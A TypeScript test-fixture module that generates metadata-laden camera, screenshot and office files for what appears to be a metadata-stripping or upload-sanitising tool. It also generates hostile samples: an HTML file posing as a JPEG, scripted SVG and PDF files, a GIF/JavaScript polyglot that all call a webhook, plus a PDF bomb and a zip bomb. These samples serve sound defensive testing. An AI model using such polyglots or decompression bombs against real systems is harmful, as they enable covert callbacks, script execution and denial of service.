/**
 * Files as sources send them, made here, the same each time. In every value that must be gone from a clean copy stands
 * {@link canary}; hostile ones do what they are named after.
 */

import { Buffer } from 'node:buffer'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { displayProfile } from './evidence/display-profile.ts'
import { drawJpeg, jpegSegment } from './evidence/draw-jpeg.ts'
import { pdfWithEverything } from './evidence/pdf-with-everything.ts'
import { pdfStream, writePdf } from './evidence/write-pdf.ts'
import { writeTiff } from './evidence/write-tiff.ts'

export const canary = 'Zaunkoenig'

export interface PictureAsked {
  readonly width?: number
  readonly height?: number
  /** As EXIF counts; 1 is upright. */
  readonly orientation?: number
}

const small = { width: 160, height: 120, orientation: 1 }
/** Twelve megapixels, held sideways, as phones write them. */
export const phonePicture = { width: 4000, height: 3000, orientation: 6 }

const exifOf = (orientation: number): Buffer =>
  writeTiff({
    first: {
      0x010e: `${canary} described`,
      0x010f: `${canary} Cameras`,
      0x0110: `${canary} One`,
      0x0112: Uint16Array.of(orientation),
      0x0131: `${canary} firmware`,
      0x0132: '2024:01:02 03:04:05',
      0x013b: `${canary} artist`,
      0x8298: `${canary} rights`,
    },
    exif: {
      0x9003: '2024:01:02 03:04:05',
      0x927c: Buffer.from(`${canary} maker's note, with serial numbers`),
      0x9286: Buffer.from(`ASCII\0\0\0${canary} comment`),
      0xa431: `${canary}-0815`,
      0xa434: `${canary} lens`,
    },
    gps: { 1: 'N', 2: [52, 31, 12.5], 3: 'E', 4: [13, 24, 18.25], 0x1d: '2024:01:02' },
    thumbnail: drawJpeg({ width: 16, height: 16 }),
  })

const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmpMM:DocumentID="xmp.did:${canary}"><dc:creator><rdf:Seq><rdf:li>${canary} creator</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>`

function iptc(): Buffer {
  const value = `${canary} by-line`
  const record = Buffer.from([0x1c, 2, 80, 0, value.length, ...Buffer.from(value)])
  const even = Buffer.concat([record, Buffer.alloc(record.length % 2)])
  return Buffer.concat([Buffer.from('8BIM\x04\x04\0\0\0\0\0', 'latin1'), Buffer.from([record.length]), even])
}

/** With EXIF, place, maker's note, small picture, XMP, IPTC, comment, a colour profile, and a file behind its end. */
export function cameraJpeg(asked: PictureAsked = {}): Buffer {
  const { width, height, orientation } = { ...small, ...asked }
  const before = [
    jpegSegment(0xe0, 'JFIF\0', Buffer.from([1, 1, 1, 0, 72, 0, 72, 0, 0])),
    jpegSegment(0xe1, 'Exif\0\0', exifOf(orientation)),
    jpegSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0', xmp),
    jpegSegment(0xe2, 'ICC_PROFILE\0', Buffer.from([1, 1]), displayProfile(canary)),
    jpegSegment(0xed, 'Photoshop 3.0\0', iptc()),
    jpegSegment(0xe7, `${canary} of a maker`),
    jpegSegment(0xfe, `${canary} comment`),
  ]
  return Buffer.concat([drawJpeg({ width, height, before }), Buffer.from(`ftypmp42 ${canary} film`)])
}

export function pngChunk(name: string, content: Uint8Array | string): Buffer {
  const named = Buffer.concat([Buffer.from(name), Buffer.from(content as string, 'latin1')])
  const ends = [Buffer.alloc(4), Buffer.alloc(4)] as const
  ends[0].writeUInt32BE(named.length - 4)
  ends[1].writeUInt32BE(crc32Of(named))
  return Buffer.concat([ends[0], named, ends[1]])
}

/** Node 20.15 has it; its types came later. */
const crc32Of = (bytes: Buffer): number => (crc32 as (bytes: Buffer) => number)(bytes)

/** With texts of all three kinds, its time, EXIF, a colour profile, and something behind its end. */
export function screenPng(asked: PictureAsked = {}): Buffer {
  const { width, height, orientation } = { ...small, ...asked }
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 8, 2, 0, 0, 0])
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  const lines = Buffer.alloc((1 + 3 * width) * height)
  for (let y = 0; y < height; y++)
    for (let x = 0; x < 3 * width; x++) lines[y * (1 + 3 * width) + 1 + x] = (x * 7 + y * 3) & 255
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    pngChunk('IHDR', head),
    pngChunk('iCCP', Buffer.concat([Buffer.from(`${canary}\0\0`), deflateSync(displayProfile(canary))])),
    pngChunk('pHYs', Buffer.from([0, 0, 11, 19, 0, 0, 11, 19, 1])),
    pngChunk('tIME', Buffer.from([7, 232, 1, 2, 3, 4, 5])),
    pngChunk('tEXt', `Author\0${canary} author`),
    pngChunk(
      'zTXt',
      Buffer.concat([Buffer.from('Software\0\0'), deflateSync(Buffer.from(`${canary} draws`))]),
    ),
    pngChunk('iTXt', `XML:com.adobe.xmp\0\0\0\0\0${xmp}`),
    pngChunk('eXIf', exifOf(orientation)),
    pngChunk('IDAT', deflateSync(lines)),
    pngChunk('prVt', `${canary} private`),
    pngChunk('IEND', ''),
    Buffer.from(`${canary} behind`),
  ])
}

/** 2 by 1 pixels, lossless. */
const bareWebp = Buffer.from('UklGRhwAAABXRUJQVlA4TA8AAAAvAQAAAAcQ/Y/+ByKi/wEA', 'base64')

function riffChunk(name: string, content: Uint8Array | string): Buffer {
  const bytes = Buffer.from(content as string, 'latin1')
  const length = Buffer.alloc(4)
  length.writeUInt32LE(bytes.length)
  return Buffer.concat([Buffer.from(name), length, bytes, Buffer.alloc(bytes.length % 2)])
}

/** With EXIF, XMP, a colour profile and a chunk of nobody's. */
export function sharedWebp(orientation = 1): Buffer {
  const body = Buffer.concat([
    Buffer.from('WEBP'),
    riffChunk('VP8X', Buffer.from([0x2c, 0, 0, 0, 1, 0, 0, 0, 0, 0])),
    riffChunk('ICCP', displayProfile(canary)),
    bareWebp.subarray(12),
    riffChunk('EXIF', exifOf(orientation)),
    riffChunk('XMP ', xmp),
    riffChunk('junk', `${canary} own`),
  ])
  return Buffer.concat([riffChunk('RIFF', body)])
}

/** Info, XMP, IDs, a picture with EXIF, remarks, attachments, scripts, a signature, a page taken out, two revisions. */
export const officePdf = (): Buffer => pdfWithEverything(canary, cameraJpeg())

/** @param webhook an address that nothing may reach */
export const htmlCalledJpg = (webhook: string): Buffer =>
  Buffer.from(`<!doctype html><script>fetch('${webhook}?html')</script><img src="${webhook}?img">`)

export const svgWithScripts = (webhook: string): Buffer =>
  Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="fetch('${webhook}?onload')"><script>fetch('${webhook}?svg')</script><image xlink:href="${webhook}?image" width="9" height="9"/><style>@import url('${webhook}?css');</style></svg>`,
  )

/** A GIF to whoever looks at its first bytes, and a script to whoever runs it. */
export const gifThatIsAScript = (webhook: string): Buffer =>
  Buffer.concat([
    Buffer.from(
      'GIF89a/*\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00',
      'latin1',
    ),
    Buffer.from(`\x00\x02\x02D\x01\x00;*/=1;fetch('${webhook}?gif')`, 'latin1'),
  ])

/** A JPEG to whoever looks at its first bytes, with a web page in a comment and behind its end. */
export const jpegThatIsAPage = (webhook: string): Buffer => {
  const html = htmlCalledJpg(webhook)
  return Buffer.concat([drawJpeg({ width: 16, height: 16, before: [jpegSegment(0xfe, html)] }), html])
}

export const pdfWithScripts = (webhook: string): Buffer =>
  writePdf([
    {
      objects: {
        1: `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL("${webhook}?js", true); this.submitForm("${webhook}?form")) >> >>`,
        2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
        3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources << /XObject << /Im 5 0 R >> >> /Contents 4 0 R /AA << /O << /S /URI /URI (${webhook}?open) >> >> /Annots [6 0 R] >>`,
        4: pdfStream('', '1 0 0 rg 20 20 60 60 re f q 60 0 0 60 100 20 cm /Im Do Q'),
        5: pdfStream(
          `/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${webhook}?picture) >>`,
          '\x80',
        ),
        6: `<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /Launch /F (${webhook}?launch) >> >>`,
      },
      trailer: '/Root 1 0 R',
    },
  ])

/** A small PDF whose packed objects unpack to as many bytes. */
export const pdfBomb = (bytes: number): Buffer =>
  writePdf([
    {
      objects: {
        1: '<< /Type /Catalog /Pages 2 0 R >>',
        2: '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
        4: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>',
        3: pdfStream(
          '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode',
          deflateSync(Buffer.alloc(bytes, '7 0 ')),
        ),
      },
      trailer: '/Root 1 0 R',
    },
  ])

/** A zip of one file that unpacks to as many bytes. */
export function zipBomb(bytes: number, name = 'word/document.xml'): Buffer {
  const packed = deflateRawSync(Buffer.alloc(bytes))
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50)
  local.writeUInt16LE(8, 8)
  local.writeUInt32LE(packed.length, 18)
  local.writeUInt32LE(bytes, 22)
  local.writeUInt16LE(name.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50)
  local.copy(central, 8, 6, 30)
  central.writeUInt16LE(8, 10)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(46 + name.length, 12)
  end.writeUInt32LE(30 + name.length + packed.length, 16)
  return Buffer.concat([local, Buffer.from(name), packed, central, Buffer.from(name), end])
}
